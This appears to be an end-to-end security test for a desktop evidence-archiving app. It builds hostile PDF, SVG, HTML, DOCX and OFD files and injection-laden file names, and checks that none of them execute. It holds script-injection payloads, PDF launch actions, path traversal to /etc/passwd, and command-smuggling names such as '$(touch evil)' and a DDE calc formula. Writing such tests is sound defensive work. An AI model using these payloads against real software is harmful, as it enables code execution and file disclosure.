// Attack: documents with script in them — PDF actions, SVG and HTML as evidence, links and fields in a DOCX, an OFD with an address.
// The window shows what it can and runs nothing.
import { readdirSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { strToU8, zipSync } from 'fflate';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { callFromPage } from './bridge.ts';
import { expect, test } from './harness.ts';

/** An OFD whose drawing starts a script, a program and a film, names files outside, and says markup. */
const ofd = (): Uint8Array => {
  const xml = (body: string): Uint8Array => strToU8(`<?xml version="1.0" encoding="UTF-8"?>${body}`);
  const actions = `<ofd:Actions><ofd:Action Event="CLICK"><ofd:URI URI="javascript:globalThis.pwned=true"/></ofd:Action><ofd:Action Event="DO"><ofd:JavaScript>globalThis.pwned = true</ofd:JavaScript></ofd:Action><ofd:Action Event="PO"><ofd:GotoA AttachID="../../../../etc/passwd" NewWindow="true"/></ofd:Action></ofd:Actions>`;
  return zipSync({
    'OFD.xml': xml('<ofd:OFD xmlns:ofd="x"><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>'),
    'Doc_0/Document.xml': xml(`<ofd:Document xmlns:ofd="x"><ofd:CommonData><ofd:PageArea><ofd:PhysicalBox>0 0 210 297</ofd:PhysicalBox></ofd:PageArea><ofd:PublicRes>PublicRes.xml</ofd:PublicRes></ofd:CommonData><ofd:Pages><ofd:Page ID="1" BaseLoc="P.xml"/></ofd:Pages>${actions}</ofd:Document>`),
    'Doc_0/PublicRes.xml': xml('<ofd:Res xmlns:ofd="x"><ofd:Fonts><ofd:Font ID="3" FontName="宋体"><ofd:FontFile>/etc/passwd</ofd:FontFile></ofd:Font></ofd:Fonts><ofd:MultiMedias><ofd:MultiMedia ID="4" Type="Image"><ofd:MediaFile>../../../../etc/passwd</ofd:MediaFile></ofd:MultiMedia></ofd:MultiMedias></ofd:Res>'),
    'Doc_0/P.xml': xml(
      `<ofd:Page xmlns:ofd="x"><ofd:Content><ofd:Layer><ofd:TextObject ID="20" Boundary="20 40 170 12" Font="3" Size="6">${actions}<ofd:TextCode X="0" Y="8">&lt;script&gt;globalThis.pwned=true&lt;/script&gt;</ofd:TextCode></ofd:TextObject><ofd:ImageObject ID="22" Boundary="100 100 40 40" CTM="40 0 0 40 0 0" ResourceID="4"/></ofd:Layer></ofd:Content></ofd:Page>`,
    ),
  });
};

const script = 'globalThis.pwned = true; fetch("https://example.invalid/")';

async function writeHostile(folder: string): Promise<readonly string[]> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([595, 842]);
  page.drawText('<script>globalThis.pwned = true</script> <img src=x onerror="globalThis.pwned = true">', { x: 20, y: 700, size: 8 });
  const action = (kind: string, more: object) => pdf.context.obj({ Type: 'Action', S: kind, ...more });
  pdf.catalog.set(PDFName.of('OpenAction'), action('JavaScript', { JS: PDFString.of(`app.alert(1); ${script}`) }));
  page.node.set(PDFName.of('AA'), pdf.context.obj({ O: action('URI', { URI: PDFString.of('https://example.invalid/') }), C: action('Launch', { F: PDFString.of('/bin/sh') }) }));
  page.node.set(
    PDFName.of('Annots'),
    pdf.context.obj([
      pdf.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 595, 842], A: action('URI', { URI: PDFString.of('javascript:globalThis.pwned=true') }) }),
      pdf.context.obj({ Type: 'Annot', Subtype: 'Widget', FT: 'Tx', T: PDFString.of('x'), Rect: [0, 0, 100, 100], AA: { K: action('JavaScript', { JS: PDFString.of(script) }) } }),
    ]),
  );
  const word = (body: string): Uint8Array =>
    zipSync({
      '[Content_Types].xml': strToU8('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'),
      '_rels/.rels': strToU8('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'),
      'word/_rels/document.xml.rels': strToU8('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://example.invalid/x.dotm" TargetMode="External"/><Relationship Id="h" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="javascript:pwned" TargetMode="External"/></Relationships>'),
      'word/document.xml': strToU8(`<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${body}</w:t></w:r></w:p></w:body></w:document>`),
    });
  const files: readonly (readonly [string, string | Uint8Array])[] = [
    ['动作.pdf', await pdf.save()],
    ['图.svg', `<svg xmlns="http://www.w3.org/2000/svg" onload="${script.replaceAll('"', '&quot;')}"><script>${script}</script></svg>`],
    ['页.html', `<html><body onload='${script}'><script>${script}</script></body></html>`],
    ['<img src=x onerror=globalThis.pwned=true>.txt', `<script>${script}</script>`],
    ['版.ofd', ofd()],
    ['..\\..\\evil.txt', 'a'], ["=cmd|' -C calc'!A0.txt", 'b'], ['$(touch evil).txt', 'c'], ['文\u202Etxt.exe.txt', 'd'], ['行一\n行二.txt', 'e'], ['CON.txt', 'f'], [`${'长'.repeat(83)}.txt`, 'g'], ['{{constructor.constructor("pwned=true")()}}.txt', 'h'],
    ['文.docx', word('&lt;script&gt;globalThis.pwned=true&lt;/script&gt;')],
  ];
  for (const [name, content] of files) await writeFile(join(folder, name), content);
  return files.map(([name]) => join(folder, name));
}

test('hostile documents are taken in or refused, shown, searched, and run nothing', async ({ open }) => {
  const { page, app, folder } = open;
  const paths = await writeHostile(folder);
  let asked = 0;
  page.on('dialog', (dialog) => {
    asked += 1;
    void dialog.dismiss();
  });
  const [builtin] = await callFromPage(page, 'catalog.builtin', {});
  await callFromPage(page, 'archive.create', { folder: join(folder, '攻击.cdarchive'), from: { kind: 'builtin', id: builtin?.id ?? '' } });
  const { imported, rejected } = await callFromPage(page, 'evidence.import', { jobId: 'hostile', paths: [...paths], indicator: null, year: null });
  expect(imported.length + rejected.length).toBe(paths.length);
  // HTML is no evidence; all else is taken in, whatever it is called.
  expect(rejected.map((one) => one.file)).toEqual([paths[2]]);
  // The hostile OFD becomes pages, without what it named outside.
  const drawn = imported.find((item) => item.file.endsWith('版.ofd'));
  expect(await page.evaluate(async (id) => (await fetch(`/evidence/${id}`)).text(), drawn?.id ?? '')).not.toMatch(/root:x:0|javascript:|GotoA/i);
  await page.reload();
  await expect(page.getByTestId('workbench')).toBeVisible();
  for (const name of ['inbox', 'indicators', 'check', 'binding', 'papers', 'search']) {
    await page.getByTestId(`nav-${name}`).click();
    await expect(page.getByTestId(`${name}-page`)).toBeVisible();
  }
  // Every item opened and shown: its name stands there as text.
  await page.getByTestId('nav-inbox').click();
  await expect(page.getByTestId('inbox-page')).toContainText('<img src=x onerror=globalThis.pwned=true>');
  await expect(page.getByTestId('inbox-page')).toContainText('$(touch evil)');
  expect(await page.locator('img[src="x"]').count()).toBe(0);
  await page.screenshot({ path: test.info().outputPath('names.png') });

  for (const { id } of imported) {
    // As a page of its own, as a frame, as an image, as a script: evidence is bytes.
    const outcome = await page.evaluate(async (wanted) => {
      const answer = await fetch(`/evidence/${wanted}`);
      const frame = document.createElement('iframe');
      frame.src = `/evidence/${wanted}`;
      document.body.append(frame);
      const runner = document.createElement('script');
      runner.src = `/evidence/${wanted}`;
      const ran = await new Promise((resolve) => {
        runner.addEventListener('load', () => resolve('ran'));
        runner.addEventListener('error', () => resolve('refused'));
        document.head.append(runner);
      });
      frame.remove();
      runner.remove();
      return { ran, policy: answer.headers.get('Content-Security-Policy'), sniff: answer.headers.get('X-Content-Type-Options'), type: answer.headers.get('Content-Type') };
    }, id);
    expect(outcome).toMatchObject({ ran: 'refused', policy: "default-src 'none'; sandbox", sniff: 'nosniff' });
    expect(outcome.type).not.toMatch(/html|svg|xml|script/);
  }
  await page.getByTestId('nav-search').click();
  await callFromPage(page, 'search.query', { text: '<script>' });
  expect(await page.evaluate(() => typeof Reflect.get(globalThis, 'pwned'))).toBe('undefined');
  expect(asked).toBe(0);
  expect(readdirSync(folder).filter((name) => name.startsWith('evil'))).toEqual([]);
  expect(page.url()).toMatch(/^app:\/\/chuangdang\/index\.html/);
  expect(await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
});
